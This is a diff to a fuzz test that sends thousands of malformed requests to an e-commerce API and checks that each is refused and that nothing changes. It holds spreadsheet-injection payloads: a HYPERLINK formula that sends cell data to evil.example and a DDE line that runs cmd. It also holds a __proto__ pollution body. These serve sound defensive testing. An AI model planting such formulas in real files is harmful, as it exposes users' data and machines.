@@ -1,9 +1,14 @@
+import { Agent, request as httpRequest } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ADDRESS_MAX, NAME_MAX } from '../../src/contract/auth.ts';
+import { callList, type CallName } from '../../src/contract/calls.ts';
 import { CATEGORY_NAME_MAX } from '../../src/contract/category.ts';
 import { MAX_CART_ENTRIES, PHOTO_MAX_BYTES } from '../../src/contract/limits.ts';
 import { PRODUCT_DESCRIPTION_MAX, PRODUCT_NAME_MAX, SEARCH_KEYWORD_MAX } from '../../src/contract/product.ts';
+import { KEYED_BODY_MAX } from '../../src/server/plugins/answer-cache/keys.ts';
+import { MAINTENANCE_HEADER } from '../../src/server/modules/backup/routes.ts';
 import { type MadeUser, makeAdmin, makeCategory, makeProduct, makeUser, multipart, pngImage } from '../factories.ts';
 import { snapshotDatabase } from '../setup/db-snapshot.ts';
 import { call, createTestApp, type TestApp } from '../setup/test-app.ts';
@@ -11,10 +16,39 @@ import { call, createTestApp, type TestApp } from '../setup/test-app.ts';
 /**
  * Thousands of generated bad requests across every call of the API: each must answer a 4xx (or, for a
  * read, a 200 that reads nothing wrong), never a 5xx, and together they must change nothing at all.
+ * Every call of the table is reached (at least MIN_PER_CALL times); a request that reaches no route is a
+ * bug of the generator, not a pass. A quarter go over a real socket to the listening server, so the
+ * pre-router (the answer cache's own request listener, which reads POST bodies itself) is fuzzed too.
  * The generator is seeded, so a failure names a request that can be replayed.
  */
 const REQUESTS = 2400;
 const SEED = 20261123;
+const MIN_PER_CALL = 10;
+const OVER_SOCKET = 0.25;
+/** What the not-found handler answers for an address no route has (a missing row answers other words). */
+const NO_SUCH_ROUTE = /^Not found: /;
+
+/** Spreadsheet formulas (OWASP's CSV injection prefixes: =, +, -, @, tab, carriage return). */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+SUM(1,2)',
+  '-2+3+cmd|x',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+/** The call of the table an address and method reach (by the call's path template), if any. */
+const templates = callList.map(([name, entry]) => ({
+  name,
+  method: entry.method,
+  pattern: new RegExp(`^/api/v1${entry.path.replace(/:\w+/g, '[^/]+')}/?$`),
+}));
+const callOf = (method: string, url: string): CallName | undefined =>
+  templates.find((template) => template.method === method && template.pattern.test(url.split('?')[0] ?? ''))?.name;
+/** Reads (GET, and the cacheable POST of the catalogue's filters) may answer 200: they change nothing. */
+const readCalls = new Set(callList.filter(([, entry]) => entry.method === 'GET' || entry.cache).map(([name]) => name));
 
 function prng(seed: number) {
   let state = seed >>> 0;
@@ -46,15 +80,43 @@ type Kind =
   | 'bad-photo'
   | 'bad-token'
   | 'unknown-id'
-  | 'bad-url';
+  | 'bad-url'
+  | 'padded'
+  | 'formula'
+  | 'line-feed'
+  | 'pre-router';
 
 interface Fuzzed {
   kind: Kind;
   method: 'GET' | 'POST' | 'PUT' | 'DELETE';
   url: string;
-  token?: string;
+  token?: string | undefined;
   headers?: Record<string, string>;
   body?: unknown;
+  /** Always over the socket (the pre-router's own cases). */
+  socket?: true;
+  /** Over the socket: the body in this many pieces, one event-loop turn apart. */
+  pieces?: number;
+  /** Over the socket: the client goes away after this many bytes of the body (no answer to check). */
+  abortAfter?: number;
+  /** The status it must answer (for the pre-router's cases that must be answered whole). */
+  expect?: number;
+}
+
+/** An answer, from inject or from the socket: what the checks read. */
+interface Answer {
+  statusCode: number;
+  headers: Record<string, string | string[] | number | undefined>;
+  body: string;
+}
+
+/** The body's bytes and content type as inject would send them (an object as JSON). */
+function encodeBody(body: unknown, headers: Record<string, string>): Buffer | undefined {
+  if (body === undefined) return undefined;
+  if (Buffer.isBuffer(body)) return body;
+  if (typeof body === 'string') return Buffer.from(body);
+  if (!Object.keys(headers).some((name) => name.toLowerCase() === 'content-type')) headers['content-type'] = 'application/json';
+  return Buffer.from(JSON.stringify(body));
 }
 
 describe('fuzz: generated bad requests across every call', () => {
@@ -64,7 +126,40 @@ describe('fuzz: generated bad requests across every call', () => {
   let categoryId: string;
   let productId: string;
   let orderId: string;
+  let productSlug: string;
   let photo: Buffer;
+  let port: number;
+  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
+
+  /** One request over a real socket to the listening server, with exactly these headers and body bytes. */
+  const overSocket = (request: Fuzzed): Promise<Answer> =>
+    new Promise((resolve, reject) => {
+      const headers: Record<string, string> = { ...request.headers };
+      if (request.token !== undefined) headers.authorization = request.token;
+      const body = encodeBody(request.body, headers);
+      if (body && (request.pieces === undefined || request.abortAfter !== undefined)) headers['content-length'] = String(body.length);
+      const outgoing = httpRequest({ host: '127.0.0.1', port, agent, method: request.method, path: request.url, headers }, (incoming) => {
+        const chunks: Buffer[] = [];
+        incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
+        incoming.on('end', () =>
+          resolve({ statusCode: incoming.statusCode ?? 0, headers: incoming.headers, body: Buffer.concat(chunks).toString() }),
+        );
+      });
+      if (request.abortAfter !== undefined && body) {
+        outgoing.on('error', () => resolve({ statusCode: 0, headers: {}, body: '' }));
+        outgoing.write(body.subarray(0, request.abortAfter), () => setImmediate(() => outgoing.destroy()));
+        return;
+      }
+      outgoing.on('error', (error) => reject(new Error(`${request.kind} ${request.method} ${request.url.slice(0, 100)}: ${error.message}`)));
+      if (!body || request.pieces === undefined) return void outgoing.end(body);
+      // In pieces: with a length the pre-router reads them; without one (chunked) it leaves them to Fastify.
+      const size = Math.ceil(body.length / request.pieces);
+      const writeFrom = (offset: number): void => {
+        if (offset >= body.length) return void outgoing.end();
+        outgoing.write(body.subarray(offset, offset + size), () => setImmediate(writeFrom, offset + size));
+      };
+      writeFrom(0);
+    });
 
   beforeAll(async () => {
     t = await createTestApp({ AUTH_RATE_LIMIT_PER_MINUTE: '100000' });
@@ -80,9 +175,15 @@ describe('fuzz: generated bad requests across every call', () => {
       body: { cart: [{ _id: productId }] },
     });
     orderId = order.json().order._id;
+    productSlug = product.slug;
     photo = await pngImage('#884422', 48);
+    await t.app.listen({ host: '127.0.0.1', port: 0 });
+    port = (t.app.server.address() as AddressInfo).port;
   });
-  afterAll(() => t.close());
+  afterAll(async () => {
+    agent.destroy();
+    await t.close();
+  });
 
   it(`answers ${REQUESTS} bad requests without a 5xx and changes nothing`, { timeout: 240_000 }, async () => {
     const { next, pick } = prng(SEED);
@@ -134,6 +235,15 @@ describe('fuzz: generated bad requests across every call', () => {
         `${admin.token.slice(0, -3)}abc`,
       ]);
 
+    /** A call's address with valid-looking ids (of rows that exist where it matters, for the reads). */
+    const pathOf = (path: string) =>
+      `/api/v1${path.replace(/:(\w+)/g, (_, param: string) => ({ page: '1', keyword: 'kettle', slug: productSlug, pid: productId, cid: categoryId, orderId, id: productId })[param] ?? '987654')}`;
+    /** The items in turn, over and over. */
+    const cycle = <T>(items: readonly T[]) => {
+      let turn = 0;
+      return () => items[turn++ % items.length] as T;
+    };
+
     const validRegistration = () => ({
       name: 'Fuzz Person',
       email: `fuzz-${Math.floor(next() * 1e9)}@example.com`,
@@ -149,6 +259,31 @@ describe('fuzz: generated bad requests across every call', () => {
       quantity: '5',
       category: categoryId,
     });
+
+    // Every call behind a guard in turn, without the right to make it: a bad token, none, or a shopper's on an admin call.
+    const nextGuarded = cycle(callList.filter(([, entry]) => entry.access !== 'public'));
+    const guardedCall = (): Fuzzed => {
+      const [name, entry] = nextGuarded();
+      const token = pick([badToken(), undefined, ...(entry.access === 'admin' ? [shopper.token, shopper.token] : [])]);
+      const headers: Record<string, string> = name === 'backup' && next() < 0.5 ? { [MAINTENANCE_HEADER]: pick(['', 'guess', 'x'.repeat(64)]) } : {};
+      const body = entry.method === 'POST' || entry.method === 'PUT' ? pick([{ name: 'Token Thief' }, {}]) : undefined;
+      // Without a JSON body to check first, the guard is what answers: 403 for the shopper, 401 for the rest.
+      const refused = entry.body ? {} : { expect: token === shopper.token ? 403 : 401 };
+      return { kind: 'bad-token', method: entry.method, url: pathOf(entry.path), token, headers, body, ...refused };
+    };
+    // Every public read in turn, with padded, unknown or formula query parameters (answered, never kept by the cache).
+    const nextPublicRead = cycle(callList.filter(([, entry]) => entry.access === 'public' && entry.method === 'GET'));
+    const publicRead = (): Fuzzed => {
+      const [, entry] = nextPublicRead();
+      const [kind, query] = pick<[Kind, string]>([
+        ['padded', `pad=${'p'.repeat(pick([1_500, 4_000, 15_000, 16 * 1024 + 1]))}`],
+        ['padded', Array.from({ length: 200 }, (_, i) => `k${i}=${i}`).join('&')],
+        ['formula', `page=${encodeURIComponent(pick(FORMULAS))}`],
+        ['bad-page', `page=${badPage()[1]}`],
+        ['bad-url', pick(['%', 'a=%E0%A4%A', 'page=1&page=2'])],
+      ]);
+      return { kind, method: 'GET', url: `${pathOf(entry.path)}?${query}` };
+    };
 
     const generators: Array<() => Promise<Fuzzed> | Fuzzed> = [
       // Account calls: one field of an otherwise valid body is broken.
@@ -177,13 +312,94 @@ describe('fuzz: generated bad requests across every call', () => {
         if (kind === 'blank' && field === 'password') return { kind: 'wrong-type', method: 'PUT', url: '/api/v1/auth/profile', token: shopper.token, body: { password: 12 } };
         return { kind, method: 'PUT', url: '/api/v1/auth/profile', token: shopper.token, body: { [field]: value } };
       },
-      () => ({
-        kind: 'bad-token',
-        method: pick(['GET', 'PUT'] as const),
-        url: pick(['/api/v1/auth/user-auth', '/api/v1/auth/admin-auth', '/api/v1/auth/profile']),
-        token: badToken(),
-        body: { name: 'Token Thief' },
-      }),
+      ...Array.from({ length: 6 }, () => guardedCall),
+      ...Array.from({ length: 2 }, () => publicRead),
+      // The owner's reads (answered, changing nothing), with bad pages, filters and padding.
+      () => {
+        const [kind, url] = pick<[Kind, string]>([
+          ['bad-page', `/api/v1/auth/all-orders?page=${badPage()[1]}`],
+          ['padded', `/api/v1/auth/all-orders?pad=${'p'.repeat(16 * 1024)}`],
+          ['padded', `/api/v1/auth/dashboard?${pick(['pad=' + 'p'.repeat(5_000), 'from=yesterday', 'x=%00'])}`],
+          ['padded', `/api/v1/admin/audit/people?${pick(['pad=' + 'p'.repeat(5_000), 'actor=abc', 'page=0'])}`],
+          ['bad-id', `/api/v1/admin/audit.csv?actor=${pick(['-1', 'abc', '1.5', '2147483648'])}`],
+          ['wrong-type', `/api/v1/admin/audit.csv?kind=${pick(['products', 'ALL', '%00', encodeURIComponent(pick(FORMULAS))])}`],
+          ['padded', `/api/v1/admin/products.csv?${pick(['pad=' + 'p'.repeat(5_000), 'page=-1', 'format=%00'])}`],
+          ['bad-page', `/api/v1/auth/all-users?page=${badPage()[1]}`],
+        ]);
+        return { kind, method: 'GET', url, token: admin.token };
+      },
+      // Spreadsheet formulas and bare line feeds in otherwise valid fields, refused for another reason
+      // (an address that has an account, a password too short, a category or product that does not exist).
+      async () => {
+        const formula = pick(FORMULAS);
+        const lineFeed = pick(['1 Fuzz Street\nSecond Line', '\n', 'Flat 2\n\n=1+1', 'Street\r\nTown\n']);
+        const kind: Kind = next() < 0.6 ? 'formula' : 'line-feed';
+        const where = pick(['register', 'profile', 'create-product', 'update-product', 'import'] as const);
+        if (where === 'register') {
+          const body = { ...validRegistration(), email: shopper.email, ...(kind === 'formula' ? { [pick(['name', 'phone', 'address', 'answer'])]: formula } : { address: lineFeed }) };
+          return { kind, method: 'POST', url: '/api/v1/auth/register', body };
+        }
+        if (where === 'profile') {
+          const body = { ...(kind === 'formula' ? { [pick(['name', 'phone', 'address'])]: formula } : { address: lineFeed }), password: pick(['x', '12345']), currentPassword: 'whatever' };
+          return { kind, method: 'PUT', url: '/api/v1/auth/profile', token: shopper.token, body };
+        }
+        if (where === 'import') {
+          const name = kind === 'formula' ? formula : lineFeed;
+          const csv = `slug,name,description,price,quantity,category\n,"${name.replace(/"/g, '""')}","${formula.replace(/"/g, '""')}",1,1,No Such Category ${Math.floor(next() * 1e6)}\n`;
+          const form = await multipart({ apply: pick(['true', 'false']) }, { field: 'file', data: Buffer.from(csv), filename: 'fuzz.csv', type: 'text/csv' });
+          return { kind, method: 'POST', url: '/api/v1/admin/products-import', token: admin.token, headers: form.headers, body: form.payload };
+        }
+        const fields = { ...productFields(), [pick(['name', 'description'])]: kind === 'formula' ? formula : lineFeed };
+        const form = await multipart(where === 'create-product' ? { ...fields, category: '987654' } : fields);
+        const url = where === 'create-product' ? '/api/v1/product/create-product' : '/api/v1/product/update-product/987654';
+        return { kind, method: where === 'create-product' ? 'POST' : 'PUT', url, token: admin.token, headers: form.headers, body: form.payload };
+      },
+      // Bodies padded with an unknown key up to and past 16 kB (the size the answer cache keys by) and 100 kB.
+      () => {
+        const size = pick([KEYED_BODY_MAX - 40, KEYED_BODY_MAX, KEYED_BODY_MAX + 1, 64 * 1024, 101 * 1024]);
+        const pad = (body: Record<string, unknown>) => {
+          const bare = JSON.stringify({ ...body, pad: '' }).length;
+          return { ...body, pad: 'p'.repeat(Math.max(0, size - bare)) };
+        };
+        const [url, body, token] = pick<[string, Record<string, unknown>, string | undefined]>([
+          ['/api/v1/auth/register', { ...validRegistration(), email: shopper.email }, undefined],
+          ['/api/v1/product/product-filters', { checked: [], radio: [] }, undefined],
+          ['/api/v1/product/product-filters', { checked: [categoryId], radio: [0, 19], page: 1 }, undefined],
+          ['/api/v1/category/create-category', { name: 'Fuzz Kitchen' }, admin.token],
+        ]);
+        return { kind: 'padded', method: 'POST', url, token, body: pad(body) };
+      },
+      // The pre-router's own body reading (over the socket only): content types at the edge of "plain JSON",
+      // bodies in pieces without a length, and clients that go away mid-body.
+      (): Fuzzed => {
+        const valid = next() < 0.75;
+        const body = JSON.stringify(valid ? pick([{ checked: [], radio: [] }, { checked: [categoryId], radio: [] }, { radio: [0, 19] }]) : { checked: ['abc'] });
+        const variant = pick(['type', 'pieces', 'chunked', 'abort', 'encoding', 'bad-json'] as const);
+        const base = { kind: 'pre-router' as const, method: 'POST' as const, url: '/api/v1/product/product-filters', socket: true as const };
+        const json = { 'content-type': 'application/json' };
+        // A valid body in plain JSON (however its type is written, in one piece or several) is answered.
+        const answered = valid ? { expect: 200 } : {};
+        if (variant === 'type') {
+          if (next() < 0.5) return { ...base, headers: { 'content-type': pick(['application/json; charset=utf-8', 'APPLICATION/JSON', 'application/json;charset="UTF-8"']) }, body, ...answered };
+          return { ...base, headers: { 'content-type': pick(['application/json; charset=latin1', 'application/json-patch+json', 'text/json', 'application/json; boundary=x']) }, body };
+        }
+        if (variant === 'pieces') return { ...base, headers: { ...json, 'content-length': String(Buffer.byteLength(body)) }, body, pieces: pick([2, 3, 7]), ...answered };
+        if (variant === 'chunked') return { ...base, headers: json, body, pieces: pick([2, 3, 7]), ...answered };
+        if (variant === 'abort') return { ...base, headers: json, body, abortAfter: Math.floor(body.length / 2) };
+        if (variant === 'encoding') return { ...base, headers: { ...json, 'content-encoding': pick(['gzip', 'br', 'deflate']) }, body };
+        return { ...base, headers: json, body: pick(['{"checked": [', '{"checked": []}{"radio": []}', '\ufeff{"checked": []}', '{"checked": [], "checked": [1]}']) };
+      },
+      // Calls with nothing else to break: the security answer and logout, with bad bodies and sessions.
+      () => {
+        if (next() < 0.5) {
+          const [kind, value] = badText(100);
+          const field = pick(['answer', 'currentPassword'] as const);
+          // The other field is refused too: a wrong password would count as a failed sign-in (a change).
+          const body = { answer: field === 'answer' ? value : '', currentPassword: field === 'currentPassword' ? value : 'p'.repeat(200) };
+          return { kind, method: 'PUT', url: '/api/v1/auth/security-answer', token: shopper.token, body };
+        }
+        return { kind: 'bad-token', method: 'POST', url: '/api/v1/auth/logout', token: badToken() };
+      },
       // Categories.
       () => {
         const [kind, value] = badText(CATEGORY_NAME_MAX);
@@ -422,39 +638,71 @@ describe('fuzz: generated bad requests across every call', () => {
       // Bodies that are not what a call takes.
       () => ({
         kind: 'bad-json',
-        method: pick(['POST', 'PUT'] as const),
-        url: pick(['/api/v1/auth/register', '/api/v1/auth/login', '/api/v1/category/create-category', '/api/v1/auth/orders', `/api/v1/auth/order-status/${orderId}`]),
+        ...pick<{ method: 'POST' | 'PUT'; url: string }>([
+          { method: 'POST', url: '/api/v1/auth/register' },
+          { method: 'POST', url: '/api/v1/auth/login' },
+          { method: 'POST', url: '/api/v1/category/create-category' },
+          { method: 'POST', url: '/api/v1/auth/orders' },
+          { method: 'PUT', url: `/api/v1/auth/order-status/${orderId}` },
+        ]),
         token: admin.token,
         headers: { 'content-type': pick(['application/json', 'text/plain', 'application/x-www-form-urlencoded']) },
         body: pick(['{"name":', 'not json', '{"__proto__": {"role": 1}}', '[1,2,3]', JSON.stringify({ a: 'x'.repeat(120_000) })]),
       }),
     ];
 
+    // The words that tell "no such route" from a missing row are still the not-found handler's.
+    expect((await call(t.app, 'PUT', '/api/v1/auth/orders')).json().message).toMatch(NO_SUCH_ROUTE);
     const before = await snapshotDatabase(t.database.db);
     const problems: string[] = [];
     const kinds = new Map<Kind, number>();
+    const perCall = new Map<CallName, number>();
+    let socketRequests = 0;
     for (let n = 0; n < REQUESTS; n++) {
       const request = await pick(generators)();
       kinds.set(request.kind, (kinds.get(request.kind) ?? 0) + 1);
-      const res = await call(t.app, request.method, request.url, {
-        token: request.token,
-        headers: request.headers,
-        body: request.body,
-      });
-      const describe = () => `#${n} ${request.kind} ${request.method} ${request.url.slice(0, 80)} -> ${res.statusCode} ${res.body.slice(0, 120)}`;
-      const read = request.method === 'GET';
-      if (res.statusCode >= 500) problems.push(describe());
-      else if (!read && res.statusCode < 400) problems.push(`accepted: ${describe()}`);
-      else if (res.statusCode >= 400 && res.headers['content-type']?.toString().includes('json') && res.json().success !== false) {
-        problems.push(`error shape: ${describe()}`);
+      const name = callOf(request.method, request.url);
+      if (name) perCall.set(name, (perCall.get(name) ?? 0) + 1);
+      const socket = request.socket === true || next() < OVER_SOCKET;
+      let res: Answer;
+      if (socket) {
+        socketRequests += 1;
+        res = await overSocket(request);
+      } else {
+        res = await call(t.app, request.method, request.url, { token: request.token, headers: request.headers, body: request.body });
       }
+      const describe = () =>
+        `#${n} ${request.kind}${socket ? ' (socket)' : ''} ${request.method} ${request.url.slice(0, 80)} -> ${res.statusCode} ${res.body.slice(0, 120)}`;
+      const json = () => (res.headers['content-type']?.toString().includes('json') ? (JSON.parse(res.body) as { success?: boolean; message?: string }) : undefined);
+      if (!name) problems.push(`reaches no call of the table (generator bug): ${describe()}`);
+      if (request.abortAfter !== undefined) continue; // the client went away: no answer to read
+      if (res.statusCode >= 500) problems.push(describe());
+      else if (request.expect !== undefined && res.statusCode !== request.expect) problems.push(`expected ${request.expect}: ${describe()}`);
+      else if (res.statusCode === 404 && NO_SUCH_ROUTE.test(json()?.message ?? '')) problems.push(`no such route (generator bug): ${describe()}`);
+      else if (!(name && readCalls.has(name)) && res.statusCode < 400) problems.push(`accepted: ${describe()}`);
+      else if (res.statusCode >= 400 && json() && json()?.success !== false) problems.push(`error shape: ${describe()}`);
     }
     expect(problems).toEqual([]);
+    // The server still answers after the clients that went away mid-body.
+    expect((await overSocket({ kind: 'pre-router', method: 'GET', url: '/readyz' })).statusCode).toBe(200);
     expect(await snapshotDatabase(t.database.db)).toEqual(before);
     // Every class of bad input was sent, many times.
-    for (const kind of ['nul', 'surrogate', 'control', 'too-long', 'big-number', 'bad-page', 'bad-slug', 'bad-multipart', 'bad-json', 'bad-id', 'bad-url'] as const) {
+    for (const kind of ['nul', 'surrogate', 'control', 'too-long', 'big-number', 'bad-page', 'bad-slug', 'bad-multipart', 'bad-json', 'bad-id', 'bad-url', 'padded', 'formula', 'line-feed', 'pre-router'] as const) {
       expect(kinds.get(kind) ?? 0, kind).toBeGreaterThanOrEqual(10);
     }
+    // Every call of the table was reached, many times, and about a quarter of the requests went over the socket.
+    const thin = callList.map(([callName]) => callName).filter((callName) => (perCall.get(callName) ?? 0) < MIN_PER_CALL);
+    expect(thin.map((callName) => `${callName}: ${perCall.get(callName) ?? 0}`)).toEqual([]);
+    expect(socketRequests).toBeGreaterThan(REQUESTS * 0.2);
+  });
+
+  it("an address over Node's 16 kB header limit answers 431 in the usual shape and closes the connection", async () => {
+    const res = await overSocket({ kind: 'padded', method: 'GET', url: `/api/v1/product/product-count?pad=${'p'.repeat(16 * 1024)}` });
+    expect(res.statusCode).toBe(431);
+    expect(res.headers.connection).toBe('close');
+    expect(JSON.parse(res.body)).toEqual({ success: false, message: 'The request headers (or its address) are too large' });
+    // The kept-alive connection is not used again: the next request is answered.
+    expect((await overSocket({ kind: 'padded', method: 'GET', url: '/api/v1/product/product-count' })).statusCode).toBe(200);
   });
 
   it('a token signed with another secret or algorithm is refused, never trusted', async () => {
